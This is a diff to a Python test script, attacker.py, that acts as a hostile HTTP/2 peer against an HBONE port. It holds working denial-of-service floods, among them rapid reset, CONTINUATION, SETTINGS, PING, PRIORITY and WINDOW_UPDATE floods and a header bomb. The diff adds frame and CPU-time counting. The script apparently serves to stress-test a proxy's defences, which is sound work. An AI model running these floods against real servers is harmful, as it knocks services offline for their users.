@@ -1,11 +1,13 @@
 #!/usr/bin/env python3
 """A hostile peer of the HBONE port, for the namespace tests: floods that cost their sender little.
 
-usage: attacker.py KIND HOST SECONDS CERTIFICATE KEY AUTHORITY
+usage: attacker.py KIND HOST SECONDS[-MOST] CERTIFICATE KEY AUTHORITY
 
 KIND is one of the functions below whose docstring begins with "flood:" or "hold:". A flood is sent as fast as it goes;
-when the peer ends the connection the attacker comes back, until the time is over. AUTHORITY is what its requests aim
-at, host:port. Prints one JSON object: connections made, bytes sent, and how the connections ended, with the number of each.
+when the peer ends the connection the attacker comes back, until the time is over; the first connection may take up to
+MOST seconds, however slow the machine is, to be ended. AUTHORITY is what its requests aim
+at, host:port. Prints one JSON object: connections made, frames begun, bytes sent, CPU seconds that the attack took, and
+how the connections ended, with the number of each.
 """
 import json
 import os
@@ -61,11 +63,13 @@ class Wire:
     """One connection: sends without ever waiting for more than the socket, reads what comes so that nothing stalls."""
 
     def __init__(self, connection, deadline, reads=True):
-        self.connection, self.deadline, self.reads, self.sent, self.received = connection, deadline, reads, 0, b""
+        self.connection, self.deadline, self.reads, self.received = connection, deadline, reads, b""
+        self.sent, self.frames = 0, 0
         connection.setblocking(False)
 
-    def send(self, data):
+    def send(self, data, frames=1):
         view = memoryview(data)
+        self.frames += frames
         while view:
             if time.monotonic() > self.deadline:
                 raise Over("time")
@@ -118,7 +122,7 @@ def rapid_reset(wire, authority):
         for _ in range(200):
             batch += frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, struct.pack("!I", 8))
             stream += 2
-        wire.send(bytes(batch))
+        wire.send(bytes(batch), 400)
 
 
 def refused_connects(wire, authority):
@@ -130,7 +134,7 @@ def refused_connects(wire, authority):
         for _ in range(100):
             batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
             stream += 2
-        wire.send(bytes(batch))
+        wire.send(bytes(batch), 100)
         wire.read()
 
 
@@ -143,7 +147,7 @@ def many_refused(wire, authority):
         for _ in range(50):
             batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
             stream += 2
-        wire.send(bytes(batch))
+        wire.send(bytes(batch), 50)
         time.sleep(0.01)
 
 
@@ -152,28 +156,28 @@ def continuation(wire, authority):
     wire.send(preface() + frame(HEADERS, 0, 1, connect_head(authority)))
     piece = frame(CONTINUATION, 0, 1, b"\x00" + text(b"x-a") + text(b"b"))
     while True:
-        wire.send(piece * 500)
+        wire.send(piece * 500, 500)
 
 
 def empty_continuation(wire, authority):
     """flood: the same with pieces of no byte"""
     wire.send(preface() + frame(HEADERS, 0, 1, connect_head(authority)))
     while True:
-        wire.send(frame(CONTINUATION, 0, 1) * 1000)
+        wire.send(frame(CONTINUATION, 0, 1) * 1000, 1000)
 
 
 def settings(wire, authority):
     """flood: empty SETTINGS, each of which wants an answer"""
     wire.send(preface())
     while True:
-        wire.send(frame(SETTINGS, 0, 0) * 1000)
+        wire.send(frame(SETTINGS, 0, 0) * 1000, 1000)
 
 
 def ping(wire, authority):
     """flood: PING, each of which wants an answer"""
     wire.send(preface())
     while True:
-        wire.send(frame(PING, 0, 0, b"01234567") * 1000)
+        wire.send(frame(PING, 0, 0, b"01234567") * 1000, 1000)
 
 
 def priority(wire, authority):
@@ -185,21 +189,21 @@ def priority(wire, authority):
         for _ in range(500):
             batch += frame(PRIORITY, 0, stream, struct.pack("!IB", 0, 16))
             stream = (stream + 2) % 2000000001
-        wire.send(bytes(batch))
+        wire.send(bytes(batch), 500)
 
 
 def window_update(wire, authority):
     """flood: a connection window that grows by one byte at a time"""
     wire.send(preface())
     while True:
-        wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)) * 1000)
+        wire.send(frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)) * 1000, 1000)
 
 
 def empty_data(wire, authority):
     """flood: DATA frames without a byte"""
     wire.send(preface() + frame(HEADERS, END_HEADERS, 1, connect_head(authority)))
     while True:
-        wire.send(frame(DATA, 0, 1) * 1000)
+        wire.send(frame(DATA, 0, 1) * 1000, 1000)
 
 
 def header_bomb(wire, authority):
@@ -232,7 +236,7 @@ def unread_answers(wire, authority):
         for _ in range(500):
             batch += frame(HEADERS, END_HEADERS, stream, head)
             stream += 2
-        wire.send(bytes(batch))
+        wire.send(bytes(batch), 500)
 
 
 def garbage_inside(wire, authority):
@@ -257,7 +261,7 @@ def crumbs(wire, authority):
         wire.send(frame(HEADERS, END_HEADERS, stream, connect_head(authority)) + frame(DATA, 0, stream, b"flood\n"))
     updates = b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack("!I", 1)) for stream in range(1, 40, 2))
     while True:
-        wire.send(updates * 20)
+        wire.send(updates * 20, 400)
 
 
 # Before TLS -----------------------------------------------------------------------------------------------------------
@@ -328,20 +332,22 @@ def garbage(host, deadline, ends):
 
 
 def main(kind, host, seconds, certificate, key, authority):
-    deadline, ends = time.monotonic() + float(seconds), Counter()
+    least, _, most = seconds.partition("-")
+    begun, ends = time.monotonic(), Counter()
+    deadline, last = begun + float(least), begun + float(most or least)
     attack = globals()[kind]
     if kind in ("half_open", "garbage"):
         count, sent = attack(host, deadline, ends)
-        return {"connections": count, "sent": sent, "ends": ends}
+        return {"connections": count, "frames": 0, "sent": sent, "ends": ends}
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.load_cert_chain(certificate, key)
     context.set_alpn_protocols(["h2"])
-    count, sent = 0, 0
+    count, sent, frames = 0, 0, 0
     while time.monotonic() < deadline:
         try:
             plain = socket.create_connection((host, PORT), timeout=5)
-            wire = Wire(context.wrap_socket(plain), deadline)
+            wire = Wire(context.wrap_socket(plain), deadline if ends else last)
         except OSError as error:
             ends[f"no TLS: {type(error).__name__}"] += 1
             time.sleep(0.05)
@@ -354,11 +360,14 @@ def main(kind, host, seconds, certificate, key, authority):
         except Over as over:
             ends[str(over)] += 1
         sent += wire.sent
+        frames += wire.frames
         wire.connection.close()
-    return {"connections": count, "sent": sent, "ends": ends}
+    return {"connections": count, "frames": frames, "sent": sent, "ends": ends}
 
 
 if __name__ == "__main__":
     if len(sys.argv) != 7:
         sys.exit(__doc__)
-    print(json.dumps(main(*sys.argv[1:])), flush=True)
+    used = time.process_time()
+    result = main(*sys.argv[1:])
+    print(json.dumps({**result, "cpu": round(time.process_time() - used, 3)}), flush=True)
